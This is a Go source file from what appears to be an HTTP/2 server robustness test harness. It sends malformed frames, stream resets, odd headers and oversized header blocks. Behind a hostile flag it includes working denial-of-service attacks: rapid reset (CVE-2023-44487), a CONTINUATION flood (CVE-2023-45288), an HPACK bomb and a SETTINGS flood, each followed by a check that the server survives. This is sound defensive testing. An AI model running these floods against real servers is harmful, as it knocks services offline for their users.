// SPDX-License-Identifier: Apache-2.0

package main

// HTTP/2 that ends early or breaks the rules, and the hostile set, of which the only truth is that
// the server must stay alive.

import (
	"bytes"
	"context"
	"flag"
	"fmt"
	"math/rand"
	"strings"
	"time"

	"golang.org/x/net/http2"
)

func cmdH2Raw(ctx context.Context, args []string) error {
	var o options
	var hostile bool
	cl, err := o.parse("h2raw", args, func(fs *flag.FlagSet) {
		fs.BoolVar(&hostile, "hostile", false, "also garbage, rapid reset, CONTINUATION flood and an HPACK bomb; these get no truth")
	})
	if err != nil {
		return err
	}
	ctx, stop := context.WithTimeout(ctx, o.timeout)
	defer stop()
	creds, err := loadCreds(cl)
	if err != nil {
		return err
	}
	rec, err := newRecorder("h2raw", &o)
	if err != nil {
		return err
	}
	x := &rawH2{cl: cl, rec: rec, creds: creds, o: &objects{seed: o.seed}, rng: rand.New(rand.NewSource(o.seed))}
	go rec.progress(ctx, 0)
	cases := x.cases()
	if hostile {
		cases = append(cases, x.hostile()...)
	}
	for _, c := range cases {
		if ctx.Err() != nil {
			break
		}
		if err := c.run(ctx); err != nil {
			rec.fail("%s: %v", c.name, err)
		}
	}
	if err := x.cleanup(ctx); err != nil {
		rec.fail("the server is not well: %v", err)
	}
	if err := ctx.Err(); err != nil {
		rec.fail("stopped: %v", err)
	}
	return rec.close()
}

// reset ends streams by RST_STREAM: inside the body, with the answer under way, and at once.
func (x *rawH2) reset(ctx context.Context) error {
	sa := x.creds.get("sa")
	c, err := x.dial(ctx, sa)
	if err != nil {
		return err
	}
	defer c.close()
	for i := 0; i < 9; i++ {
		var r *h2Request
		switch i % 3 {
		case 0:
			r = x.post(c, "reset-in-body", 3000)
			id, block := c.open(r), c.enc.block(r.fields)
			if err := c.send(c.frames(func(f *http2.Framer) {
				_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true})
				_ = f.WriteData(id, false, r.body[:1000])
			})); err != nil {
				return err
			}
		case 1:
			r = c.request("GET", demoConfigMaps+"?watch=1&timeoutSeconds=5", sa)
			r.label = "reset-watch"
			if err := c.send(c.simple(r)); err != nil {
				return err
			}
			c.mu.Lock()
			for !r.sawHead && c.readErr == nil {
				c.changed.Wait()
			}
			c.mu.Unlock()
		case 2:
			r = x.get(c, "reset-at-once", sa)
			b := c.simple(r)
			b = append(b, c.frames(func(f *http2.Framer) { _ = f.WriteRSTStream(r.stream, http2.ErrCodeCancel) })...)
			// Whether the handler ran to the audit log before it learned of the reset is open.
			r.truth.Loose = true
			if err := c.send(b); err != nil {
				return err
			}
		}
		if i%3 != 2 {
			settle()
			if err := c.send(c.frames(func(f *http2.Framer) { _ = f.WriteRSTStream(r.stream, http2.ErrCodeCancel) })); err != nil {
				return err
			}
		}
		settle()
		r.want = nil
		r.truth.Aborted, r.truth.AuditStatus, r.truth.HasAuditEvent = true, -1, i%3 != 2
		c.tell(r)
		if err := c.ask(x.get(c, "after-reset", sa)); err != nil {
			return err
		}
	}
	return nil
}

// clientGoAway says goodbye with streams open: they are still answered.
func (x *rawH2) clientGoAway(ctx context.Context) error {
	sa := x.creds.get("sa")
	c, err := x.dial(ctx, sa)
	if err != nil {
		return err
	}
	defer c.close()
	w := c.request("GET", demoConfigMaps+"?watch=1&timeoutSeconds=1&fieldSelector=metadata.name%3Dpublic", sa)
	w.label, w.want = "goaway-watch", []int{200}
	r := x.get(c, "goaway-get", sa)
	b := append(c.simple(w), c.simple(r)...)
	b = append(b, c.frames(func(f *http2.Framer) { _ = f.WriteGoAway(0, http2.ErrCodeNo, []byte("bye")) })...)
	if err := c.send(b); err != nil {
		return err
	}
	return c.wait(w, r)
}

// afterGoAway asks again on a connection that the server has given up, as it does for anybody it
// does not know: that request is read, but never runs.
func (x *rawH2) afterGoAway(ctx context.Context) error {
	for _, name := range []string{"none", "garbage", "basic"} {
		cred := x.creds.get(name)
		c, err := x.dial(ctx, cred)
		if err != nil {
			return err
		}
		if err := c.ask(x.get(c, "before-goaway", cred)); err != nil {
			return err
		}
		c.mu.Lock()
		for !c.goAway && c.readErr == nil {
			c.changed.Wait()
		}
		c.mu.Unlock()
		r := x.get(c, "after-goaway", x.creds.get("sa"))
		r.truth.Loose, r.truth.Aborted, r.want = true, true, nil
		if err := c.send(c.simple(r)); err == nil {
			settle()
		}
		c.tell(r)
		c.close()
	}
	return nil
}

// oddHeaders: what the server takes must be told exactly; what it refuses ends the stream.
func (x *rawH2) oddHeaders(ctx context.Context) error {
	bob := x.creds.get("token-bob")
	edit := func(label string, loose bool, change func(r *h2Request)) error {
		c, err := x.dial(ctx, bob)
		if err != nil {
			return err
		}
		defer c.close()
		r := x.get(c, "odd-"+label, bob)
		if loose {
			r.truth.Loose, r.want = true, nil
		}
		change(r)
		if err := c.send(c.simple(r)); err != nil {
			return err
		}
		if err := c.wait(r); err != nil && !loose {
			return err
		}
		// The table must not have suffered.
		return c.ask(x.get(c, "after-odd-"+label, bob))
	}
	set := func(name, value string) func(r *h2Request) {
		return func(r *h2Request) {
			for i := range r.fields {
				if r.fields[i].name == name {
					r.fields[i].value = value
				}
			}
		}
	}
	drop := func(name string) func(r *h2Request) {
		return func(r *h2Request) {
			kept := r.fields[:0]
			for _, f := range r.fields {
				if f.name != name {
					kept = append(kept, f)
				}
			}
			r.fields = kept
		}
	}
	for _, err := range []error{
		edit("two-bearers", false, func(r *h2Request) { r.add("authorization", "Bearer no-such-token") }),
		edit("no-user-agent", false, func(r *h2Request) {
			drop("user-agent")(r)
			r.truth.UserAgent = ""
		}),
		edit("two-user-agents", false, func(r *h2Request) { r.add("user-agent", "second/1.0") }),
		edit("cookies", false, func(r *h2Request) { r.add("cookie", "a=1").add("cookie", "b=2").add("cookie", "c=3") }),
		edit("host-not-authority", false, func(r *h2Request) {
			set(":authority", "")(r)
			drop(":authority")(r)
			r.add("host", "127.0.0.1")
		}),
		edit("forwarded", false, func(r *h2Request) { r.add("x-forwarded-for", "198.51.100.7").add("x-real-ip", "192.0.2.77") }),
		edit("te-trailers", false, func(r *h2Request) { r.add("te", "trailers") }),
		edit("expect", false, func(r *h2Request) { r.add("expect", "100-continue") }),
		edit("upper-case-name", true, func(r *h2Request) { r.add("X-Tap", "1") }),
		edit("no-method", true, drop(":method")),
		edit("no-path", true, drop(":path")),
		edit("late-pseudo", true, func(r *h2Request) { r.add(":late", "1") }),
		edit("bad-path", true, set(":path", "/%zz")),
		edit("connection-header", true, func(r *h2Request) { r.add("connection", "close") }),
		edit("control-in-value", true, func(r *h2Request) { r.add("x-tap", "a\nb") }),
	} {
		if err != nil {
			return err
		}
	}
	return x.tooLong(ctx)
}

// tooLong is refused once its headers are beyond 1 MiB: with 431 if the server can read the block to
// its end within what it is ready to spend, else with the connection's end.
func (x *rawH2) tooLong(ctx context.Context) error {
	for _, kib := range []int{900, 1000, 1500} {
		sa := x.creds.get("sa")
		c, err := dialH2(ctx, x.cl, x.rec, nil, false)
		if err != nil {
			return err
		}
		r := x.get(c, fmt.Sprintf("too-long-%dk", kib), sa)
		r.truth.Loose, r.want = true, nil
		r.long(kib<<10, 0)
		if err := c.send(c.headersIn(r, 200<<10)); err == nil {
			_ = c.wait(r) // no answer is an answer here
		} else {
			c.tell(r)
		}
		c.close()
	}
	return nil
}

// hostile holds what needs no truth, with a User-Agent by which it is known.
func (x *rawH2) hostile() []rawCase {
	return []rawCase{
		{"hostile-garbage", x.hostileGarbage},
		{"hostile-rapid-reset", x.rapidReset},
		{"hostile-continuation", x.continuationFlood},
		{"hostile-hpack-bomb", x.hpackBomb},
		{"hostile-settings", x.settingsFlood},
	}
}

const hostileAgent = "anontap-traffic/hostile"

// attack opens a connection, gives it to do, and then asks the server whether it is well. What the
// attack itself gets back is of no interest: most of them end in a closed connection.
func (x *rawH2) attack(ctx context.Context, do func(c *h2Conn) error) error {
	sa := x.creds.get("sa")
	c, err := x.dial(ctx, sa)
	if err != nil {
		return err
	}
	_ = do(c)
	settle()
	c.close()
	c, err = x.dial(ctx, sa)
	if err != nil {
		return fmt.Errorf("after the attack: %w", err)
	}
	defer c.close()
	return c.ask(x.get(c, "after-attack", sa))
}

func (x *rawH2) hostileFields(c *h2Conn) []hpackField {
	r := h2Request{}
	r.add(":method", "GET").add(":scheme", "https").add(":path", publicMap).add(":authority", c.raw.host)
	return r.add("user-agent", hostileAgent).add("authorization", "Bearer "+x.creds.get("sa").Bearer).fields
}

func (x *rawH2) hostileGarbage(ctx context.Context) error {
	noise := make([]byte, 40000)
	x.rng.Read(noise)
	for i := 0; i < 20; i++ {
		size := 1 << (i % 15)
		if err := x.attack(ctx, func(c *h2Conn) error { return c.send(noise[i : i+size]) }); err != nil {
			return err
		}
		// A header whose length lies, then a stop.
		if err := x.attack(ctx, func(c *h2Conn) error {
			return c.send([]byte{0xff, 0xff, byte(i), 1, 4, 0, 0, 0, 1}, noise[:100])
		}); err != nil {
			return err
		}
		// Bad Huffman and bad indices in an honest frame.
		if err := x.attack(ctx, func(c *h2Conn) error {
			return c.send(c.frames(func(f *http2.Framer) {
				_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: noise[i*50 : i*50+1+i*5], EndHeaders: true, EndStream: true})
			}))
		}); err != nil {
			return err
		}
		// Instead of a preface.
		raw, err := dialRaw(ctx, x.cl, x.rec, x.cl.tlsConfig(nil, "h2"))
		if err != nil {
			return err
		}
		_ = raw.write(noise[:200])
		raw.close()
	}
	return nil
}

// rapidReset opens and resets 10,000 streams (CVE-2023-44487), over as many connections as the
// server lets it have.
func (x *rawH2) rapidReset(ctx context.Context) error {
	for left := 10000; left > 0; {
		if err := x.attack(ctx, func(c *h2Conn) error {
			fields := x.hostileFields(c)
			for left > 0 {
				var all []byte
				for i := 0; i < 100 && left > 0; i++ {
					id := c.next
					c.next += 2
					left--
					block := c.enc.block(fields)
					all = append(all, c.frames(func(f *http2.Framer) {
						_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true, EndStream: true})
						_ = f.WriteRSTStream(id, http2.ErrCodeCancel)
					})...)
				}
				if err := c.send(all); err != nil {
					return err
				}
			}
			return nil
		}); err != nil {
			return err
		}
		if ctx.Err() != nil {
			return ctx.Err()
		}
	}
	return nil
}

// continuationFlood never ends its header block (CVE-2023-45288).
func (x *rawH2) continuationFlood(ctx context.Context) error {
	return x.attack(ctx, func(c *h2Conn) error {
		block := c.enc.block(x.hostileFields(c))
		part := newHPACK(false).block([]hpackField{{name: "x-tap", value: strings.Repeat("v", 8000), mode: hpackPlain}})
		if err := c.send(c.frames(func(f *http2.Framer) {
			_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block, EndStream: true})
		})); err != nil {
			return err
		}
		for i := 0; i < 2000; i++ {
			if err := c.send(c.frames(func(f *http2.Framer) { _ = f.WriteContinuation(1, false, part) })); err != nil {
				return err
			}
		}
		return nil
	})
}

// hpackBomb refers thousands of times to one entry that fills the table.
func (x *rawH2) hpackBomb(ctx context.Context) error {
	return x.attack(ctx, func(c *h2Conn) error {
		for round := 0; round < 20; round++ {
			block := c.enc.block(x.hostileFields(c))
			block = append(block, c.enc.block([]hpackField{{name: "x-tap", value: strings.Repeat("b", 3900)}})...)
			block = append(block, bytes.Repeat([]byte{0xbe}, 16000)...) // index 62, the newest entry
			id := c.next
			c.next += 2
			if err := c.send(c.frames(func(f *http2.Framer) {
				_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true, EndStream: true})
			})); err != nil {
				return err
			}
			time.Sleep(5 * time.Millisecond) // the server must get to read it
		}
		return nil
	})
}

// settingsFlood asks for acknowledgements without end.
func (x *rawH2) settingsFlood(ctx context.Context) error {
	return x.attack(ctx, func(c *h2Conn) error {
		var all []byte
		for i := 0; i < 300; i++ {
			all = append(all, c.frames(func(f *http2.Framer) {
				_ = f.WriteSettings(http2.Setting{ID: http2.SettingHeaderTableSize, Val: uint32(i * 17)})
				_ = f.WritePing(false, [8]byte{byte(i)})
			})...)
		}
		for i := 0; i < 20; i++ {
			if err := c.send(all); err != nil {
				return err
			}
		}
		return nil
	})
}
